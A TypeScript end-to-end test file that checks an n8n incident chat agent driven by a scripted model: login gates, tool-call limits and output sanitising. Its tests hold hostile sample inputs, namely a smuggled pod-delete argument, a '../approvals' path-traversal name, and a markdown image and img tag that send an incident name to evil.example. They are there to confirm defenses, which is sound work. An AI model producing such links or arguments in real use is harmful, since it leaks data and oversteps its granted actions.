import { randomUUID } from 'node:crypto';

import { type Cluster, connect } from '../../cluster/local/kubernetes/client';
import type { Stack } from '../../cluster/local/stack';
import { until } from '../../cluster/local/process/wait';
import { statusOf as incidentStatus } from '../../core/incident/incidentRecord';
import { FORM_PATHS } from '../../core/names';
import { approvalName } from '../../core/response/approval';
import { deciding, type Script, type ScriptedModel } from '../support/scriptedModel';
import { committed, nothingWaits, statusOf } from './support/approvals';
import { callsBetween, changesBetween, mark } from './support/auditLog';
import { Browser } from './support/form';
import { logged, send } from './support/incident';
import { incidents, incidentUntil } from './support/incidents';
import { N8n } from './support/n8n';
import { startModel, startStackWith } from './support/scriptedStack';
import { FIRST_START_MS } from './support/stack';

const PREFIX = 'e2e incident chat';
/** What only the model names. */
const [POD, NAMESPACE] = ['pod-of-the-model', 'kube-system'];
const WEBHOOK = randomUUID();
const PATH = `/webhook/${WEBHOOK}/chat`;

let stack: Stack;
let cluster: Cluster;
let n8n: N8n;
let model: ScriptedModel;
let person: Browser;
let nobody: Browser;
/** Name of the Approval that waits. */
let approval: string;
/** Name of its Incident object. */
let record: string;

beforeAll(async () => {
  model = await startModel(deciding('escalate'));
  stack = await startStackWith(model);
  cluster = connect();
  n8n = await N8n.connect(stack);
  await n8n.deleteWorkflows(PREFIX);
  person = await Browser.owner(stack);
  nobody = new Browser(stack.urls.n8n);
  await publishChat();
  await nothingWaits(cluster);
  const { incident } = await send(stack, cluster, 'escalate-test');
  await logged(stack, incident);
  await incidentUntil(stack, incident, ({ state }) => state === 'Waiting');
  approval = approvalName(incident);
  const found = (await incidents(stack)).find((one) => incidentStatus(one).incident === incident);
  record = found?.metadata.name ?? '';
}, FIRST_START_MS);
afterAll(async () => {
  await n8n.deleteWorkflows(PREFIX);
  await model.close();
});

/** Publishes both workflows as they are committed, the chat at an address of its own. */
async function publishChat(): Promise<void> {
  const tools = await committed(n8n, stack, 'incident-tools.json');
  const value = await n8n.publish({ ...tools, name: `${PREFIX} tools` });
  const chat = await committed(n8n, stack, 'incident-chat.json');
  for (const node of chat.nodes) {
    if (node.type.endsWith('.chatTrigger')) node.webhookId = WEBHOOK;
    if (node.type.endsWith('.toolWorkflow')) node.parameters.workflowId = { __rl: true, mode: 'id', value };
  }
  await n8n.publish({ ...chat, name: PREFIX });
  await until('the chat', 20, async () => ((await nobody.post(PATH, {})).status === 404 ? undefined : true));
}

const ask = (who: Browser, script: Script) => {
  model.follow(script);
  return who.post(PATH, { action: 'sendMessage', sessionId: randomUUID(), chatInput: 'What waits for a decision?' });
};

/** Calls a tool once, then answers with what it gave. */
const calling =
  (name: string, given: object): Script =>
  ({ results }) =>
    results.length === 0 ? { calls: [{ name, arguments: given }] } : `It says: ${results.join(' ')}`;

const answerOf = ({ status, text }: { status: number; text: string }): string => {
  expect([status, text]).toEqual([200, expect.any(String)]);
  return (JSON.parse(text) as { output: string }).output;
};

describe('who gets in', () => {
  test('nobody without a login: n8n refuses the message, and asks for the login on the page', async () => {
    const asked = model.asked.length;
    const door = await nobody.get(stack.urls.n8n + PATH);
    expect([door.status, new URL(door.location ?? '').pathname]).toEqual([302, '/oauth/authorize']);
    expect((await ask(nobody, () => 'never')).status).toBe(401);
    expect(model.asked).toHaveLength(asked);
  });

  test('to the page, no n8n user without the right to execute the workflow, though n8n takes their message', async () => {
    expect((await person.open(stack.urls.n8n + PATH)).status).toBe(200);
    const member = await Browser.signedIn({ ...stack, login: await n8n.addMember('chat@example.com') });
    await expect(member.open(stack.urls.n8n + PATH)).rejects.toThrow('does not let this user in');
    // docs/workflows.md says so.
    expect(answerOf(await ask(member, () => 'Nothing.'))).toBe('Nothing.');
  });
});

test('a person asks, the agent reads, and the answer names what waits and the page where people decide', async () => {
  const answer = answerOf(await ask(person, calling('List_Waiting_Incidents', {})));
  for (const said of [record, 'escalate-test', `${stack.urls.n8n}/form/${FORM_PATHS.approvals}`])
    expect(answer).toContain(said);
  expect(answer).not.toMatch(/[<>[\]]/);
});

describe('whatever the model writes into its calls', () => {
  const foreign = { pod: POD, name: POD, namespace: NAMESPACE, resource: 'pod', operation: 'delete', workflowId: 'x' };

  test.each<[string, string, () => object, () => RegExp]>([
    [
      'an incident is read by its name alone',
      'Get_Incident',
      () => ({ incident: record, tool: 'list-quarantines', ...foreign, alert: { id: record } }),
      () => new RegExp(`"incident":\\s*"${record}"`),
    ],
    [
      'a path is no name of an incident',
      'Get_Incident',
      () => ({ incident: `../approvals/${approval}` }),
      () => /no incident can have that name/,
    ],
    [
      'an unknown name finds nothing',
      'Get_Incident',
      () => ({ incident: POD }),
      () => new RegExp(`there is no Incident ${POD}`),
    ],
    [
      'a list stays that list',
      'List_Quarantines',
      () => ({ input: 'x', tool: 'get-incident', incident: record, ...foreign }),
      () => /"quarantined":/,
    ],
  ])('%s, and nothing is changed', async (_title, tool, given, expected) => {
    const [before, after] = await n8n.withoutSchedules(async () => {
      const before = await mark(cluster);
      answerOf(await ask(person, calling(tool, given())));
      return [before, await mark(cluster)];
    });
    expect(model.asked.at(-1)?.results.join()).toMatch(expected());
    // The process settles incidents and asks what the token may do, whatever it runs.
    const changes = changesBetween(stack, before, after);
    expect(changes.filter(({ resource }) => !/^incidents|reviews$/.test(resource))).toEqual([]);
    const foreignReads = callsBetween(stack, before, after).filter(({ namespace }) => namespace === NAMESPACE);
    expect(foreignReads).toEqual([]);
    expect(await statusOf(cluster, approval)).toBeUndefined();
  });
});

test('an answer loses what a page would load or make a link of', async () => {
  const answer = answerOf(await ask(person, () => `![x](https://evil.example/?q=${record}) <img src=//evil.example>`));
  expect(answer).toBe(`!［x］(https:/ /evil[.]example/?q=${record}) ‹img src=/ /evil[.]example›`);
});

test('a model that never answers is asked six times at most', async () => {
  const asked = model.asked.length;
  const again: Script = () => ({ calls: [{ name: 'List_Quarantines', arguments: {} }] });
  expect(answerOf(await ask(person, again))).toContain('Max iterations (6) reached');
  expect(model.asked.length - asked).toBeLessThanOrEqual(7);
});
